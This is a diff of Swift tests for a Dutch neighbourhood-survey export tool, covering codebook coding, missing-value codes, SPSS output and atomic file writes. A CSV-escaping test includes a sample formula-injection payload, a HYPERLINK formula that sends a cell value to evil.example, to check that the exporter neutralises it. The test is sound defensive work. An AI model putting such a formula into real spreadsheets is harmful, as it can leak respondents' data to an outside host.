@@ -1,5 +1,6 @@
 import Foundation
 import Testing
+import WijkwebFiles
 import WijkwebCore
 @testable import WijkwebReports
 
@@ -83,8 +84,23 @@ import WijkwebCore
     #expect(first.valueLabels.map(\.code) == ["0", "10", "99"])
     #expect(first.valueLabels.last?.label.nl == "weet niet / niet van toepassing")
     let wijk = try #require(codebook.variables.first { $0.name == "wijk" })
-    #expect(wijk.valueLabels.map(\.code) == ["WK1", "WK2"])
-    #expect(wijk.width == 3)
+    // Areas are numbers (the digits of their codes) with the code and name as label, -2 user-missing.
+    #expect(wijk.type == .integer)
+    #expect(wijk.valueLabels.map(\.code) == ["1", "2", "-2"])
+    #expect(wijk.valueLabels.first?.label.nl.hasPrefix("WK1 ") == true)
+    #expect(wijk.missingValues == [Codebook.notAnsweredCode])
+    // Demographics: 1, 2, ... in the questionnaire's order, -1 "zeg ik liever niet" and -2 unanswered.
+    let age = try #require(codebook.variables.first { $0.name == "age" })
+    let ageQuestion = try #require(questionnaire.demographics.first { $0.id == "age" })
+    #expect(age.type == .integer)
+    #expect(Array(age.valueLabels.prefix(ageQuestion.choices.count)).map(\.label.nl) == ageQuestion.choices.map { $0.label.text(.dutch) })
+    #expect(age.valueLabels.first?.code == "1")
+    #expect(age.valueLabels.contains { $0.code == "-2" && $0.label.en == "not answered" })
+    #expect(age.missingValues.contains(Codebook.notAnsweredCode))
+    if ageQuestion.preferNotToSay {
+      #expect(age.valueLabels.contains { $0.code == "-1" && $0.label.nl == "zeg ik liever niet" })
+      #expect(age.missingValues == [Codebook.preferNotToSayCode, Codebook.notAnsweredCode])
+    }
     #expect(codebook.variables.allSatisfy { !$0.label.nl.isEmpty && !$0.label.en.isEmpty })
     #expect(names.contains("health_lichaamsfuncties") && names.contains("neighbourhood_dagelijks_functioneren"))
 
@@ -115,14 +131,15 @@ import WijkwebCore
     #expect(value("response_id") == .text("abc"))
     #expect(value("round") == .text("Najaar"))
     #expect(value("questionnaire_version") == .integer(questionnaire.version))
-    #expect(value("gemeente") == .text("GM1"))
-    #expect(value("gebied") == .text("GB1"))
-    #expect(value("wijk") == .text("WK1"))
-    #expect(value("buurt") == .text("BU1"))
+    #expect(value("gemeente") == .integer(1))
+    #expect(value("gebied") == .integer(1))
+    #expect(value("wijk") == .integer(1))
+    #expect(value("buurt") == .integer(1))
     #expect(value("completed_on") == .day("2026-11-23"))
-    #expect(value("age") == .text("25-44"))
-    #expect(value("sex") == .missing)
-    #expect(value("household") == .missing)
+    let ageChoice = try #require(questionnaire.demographics.first { $0.id == "age" }?.choices.firstIndex { $0.id == "25-44" })
+    #expect(value("age") == .integer(ageChoice + 1))
+    #expect(value("sex") == .integer(Codebook.preferNotToSayCode), "an empty choice is zeg ik liever niet")
+    #expect(value("household") == .integer(Codebook.notAnsweredCode), "a question not in the packed answers was not answered")
     #expect(value("h_lf_1") == .integer(10))
     #expect(value("h_lf_2") == .integer(99))
     #expect(value("h_lf_3") == .missing)
@@ -135,8 +152,8 @@ import WijkwebCore
     let village = builder.values(ResponseRecord(id: "d", areaCode: "WK2", completedAt: nil, packedAnswers: "", packedDemographics: "",
                                                 partScores: []))
     let gebied = try #require(codebook.variables.firstIndex { $0.name == "gebied" })
-    #expect(village[gebied] == .missing)
-    #expect(village[gebied + 1] == .text("WK2"))
+    #expect(village[gebied] == .integer(Codebook.notAnsweredCode))
+    #expect(village[gebied + 1] == .integer(2))
   }
 
   @Test func csvQuotesOnlyWhatNeedsIt() {
@@ -144,6 +161,14 @@ import WijkwebCore
     #expect(ResponsesCSV.escape("a, b") == "\"a, b\"")
     #expect(ResponsesCSV.escape("zei \"ja\"") == "\"zei \"\"ja\"\"\"")
     #expect(ResponsesCSV.escape("regel\nregel") == "\"regel\nregel\"")
+    // The formula rule: every field starting like a formula gets a quote in front, then RFC 4180 quoting.
+    #expect(ResponsesCSV.escape("=2+3") == "'=2+3")
+    #expect(ResponsesCSV.escape("=HYPERLINK(\"http://evil.example/?id=\"&A2,\"Meer info\")")
+      == "\"'=HYPERLINK(\"\"http://evil.example/?id=\"\"&A2,\"\"Meer info\"\")\"")
+    for start in ["+", "-", "@", "\t"] { #expect(ResponsesCSV.escape(start + "1") == "'" + start + "1") }
+    #expect(ResponsesCSV.escape("\rx") == "\"'\rx\"")
+    #expect(ResponsesCSV.escape("a=b") == "a=b")
+    #expect(ResponsesCSV.escape("") == "")
     #expect(ResponsesCSV.codebookPath(for: "/tmp/uit.csv") == "/tmp/uit-codebook.csv")
     #expect(ResponsesCSV.codebookPath(for: "uit") == "uit-codebook.csv")
     #expect(ExportValue.decimal(7.0).plain == "7.0")
@@ -154,8 +179,56 @@ import WijkwebCore
     let codebook = CodebookBuilder.build(questionnaire: try Self.questionnaire(), round: "Najaar", areas: Self.areas)
     let lines = CodebookCSV.render(codebook).split(separator: "\n")
     #expect(lines.first == Substring(CodebookCSV.columns.joined(separator: ",")))
-    #expect(lines.count == codebook.variables.count + 1)
+    #expect(lines.count == codebook.variables.count + codebook.notes.count + 1, "a row per variable, then the notes")
     #expect(lines.contains { $0.hasPrefix("h_lf_1,item,integer,") && $0.contains("99=weet niet / niet van toepassing") && $0.hasSuffix(",99") })
+  }
+
+  @Test func codebookNotesSayTheRulesInEveryFormat() throws {
+    let questionnaire = try Self.questionnaire()
+    let codebook = CodebookBuilder.build(questionnaire: questionnaire, round: "Najaar", areas: Self.areas)
+    let notes = Dictionary(uniqueKeysWithValues: codebook.notes.map { ($0.key, $0.text) })
+    #expect(notes["questionnaire"]?.en.contains(questionnaire.contentHash) == true)
+    let percent = Int((questionnaire.scoring.minAnsweredShare * 100).rounded())
+    #expect(notes["scoring"]?.en.contains("Empty when fewer than \(percent)%") == true)
+    #expect(notes["missing_codes"]?.nl.contains("-1 = zeg ik liever niet") == true)
+    #expect(notes["methods"]?.en.contains("Hyndman & Fan type 7") == true)
+    #expect(notes["csv_formulas"]?.en.contains("=, +, -, @") == true)
+    #expect(notes["areas"]?.en.contains("gebied = area, wijk = district, buurt = neighbourhood") == true)
+    let csv = CodebookCSV.render(codebook)
+    #expect(csv.contains("note_scoring,note,,"))
+    // The level names of the codebook are the report's.
+    #expect(codebook.variables.first { $0.name == "wijk" }?.label.en == "District (wijk, code)")
+    #expect(AreaLevel.wijk.name(in: .english) == "district" && AreaLevel.buurt.name(in: .english) == "neighbourhood")
+    // SPSS document lines are at most 80 bytes, broken at spaces, and lose no word.
+    let text = try #require(notes["scoring"]?.nl) + " " + String(repeating: "x", count: 200)
+    let lines = ResponsesSAV.documentLines(text)
+    #expect(lines.allSatisfy { $0.utf8.count <= 80 })
+    #expect(lines.joined(separator: " ").replacingOccurrences(of: " ", with: "") == text.replacingOccurrences(of: " ", with: ""))
+  }
+
+  @Test func abandonedExportsLeaveNothingInTheFolder() throws {
+    let folder = NSTemporaryDirectory() + "wijkweb-abandoned-\(UUID().uuidString)"
+    try FileManager.default.createDirectory(atPath: folder, withIntermediateDirectories: true)
+    defer { try? FileManager.default.removeItem(atPath: folder) }
+    let codebook = CodebookBuilder.build(questionnaire: try Self.questionnaire(), round: "Najaar", areas: Self.areas)
+    do {
+      let file = try AtomicFile(path: folder + "/half.xlsx")
+      let sink = try ResponsesXLSX(codebook: codebook, file: file)
+      try sink.begin(rowCount: 1)
+      let sav = try AtomicFile(path: folder + "/half.sav")
+      let savSink = ResponsesSAV(codebook: codebook, file: sav)
+      try savSink.begin(rowCount: 1)
+    }
+    #expect(try FileManager.default.contentsOfDirectory(atPath: folder).isEmpty, "a failed export leaves no temporary file")
+  }
+
+  @Test func areaNumbersAreTheDigitsOfTheCodesElseTheirPositions() {
+    #expect(Codebook.areaNumbers(["WK001411", "WK001400", "WK001411"]) == ["WK001400": 1400, "WK001411": 1411])
+    #expect(Codebook.areaNumbers(["BU00141100"]) == ["BU00141100": 141_100])
+    // Codes without digits, or whose digits repeat, are numbered by their order.
+    #expect(Codebook.areaNumbers(["Noord", "Zuid"]) == ["Noord": 1, "Zuid": 2])
+    #expect(Codebook.areaNumbers(["A1", "B1"]) == ["A1": 1, "B1": 2])
+    #expect(Codebook.areaNumbers(["X0", "X7"]) == ["X0": 1, "X7": 2])
   }
 
   @Test func savLabelsAreCutAtCharacterBoundariesAndDaysAreSPSSDates() {
@@ -174,23 +247,22 @@ import WijkwebCore
     defer { try? FileManager.default.removeItem(atPath: folder) }
     let path = folder + "/uit.csv"
     do {
-      let destination = try ExportDestination(path: path, force: false)
-      let file = try OutputFile(path: destination.temporaryPath)
+      let file = try AtomicFile(path: path, force: false)
       try file.write("half")
-      try file.close()
+      try file.flush()
       #expect(!FileManager.default.fileExists(atPath: path))
       // Abandoned without commit: the temporary file goes, nothing appears.
     }
     #expect(try FileManager.default.contentsOfDirectory(atPath: folder).isEmpty)
-    let destination = try ExportDestination(path: path, force: false)
+    let destination = try AtomicFile(path: path, force: false)
     try "klaar".write(toFile: destination.temporaryPath, atomically: false, encoding: .utf8)
     try destination.commit()
     #expect(try String(contentsOfFile: path, encoding: .utf8) == "klaar")
-    #expect(throws: ExportError.self) { try ExportDestination(path: path, force: false) }
-    #expect(throws: ExportError.self) { try ExportDestination(path: folder + "/missing/uit.csv", force: false) }
-    #expect(throws: ExportError.self) { try ExportDestination(path: folder, force: false) }
-    #expect(throws: ExportError.self) { try ExportDestination(path: path + "/in-een-bestand.csv", force: false) }
-    let again = try ExportDestination(path: path, force: true)
+    #expect(throws: FileError.self) { try AtomicFile(path: path, force: false) }
+    #expect(throws: FileError.self) { try AtomicFile(path: folder + "/missing/uit.csv", force: false) }
+    #expect(throws: FileError.self) { try AtomicFile(path: folder, force: false) }
+    #expect(throws: FileError.self) { try AtomicFile(path: path + "/in-een-bestand.csv", force: false) }
+    let again = try AtomicFile(path: path, force: true)
     try "nieuw".write(toFile: again.temporaryPath, atomically: false, encoding: .utf8)
     try again.commit()
     #expect(try String(contentsOfFile: path, encoding: .utf8) == "nieuw")
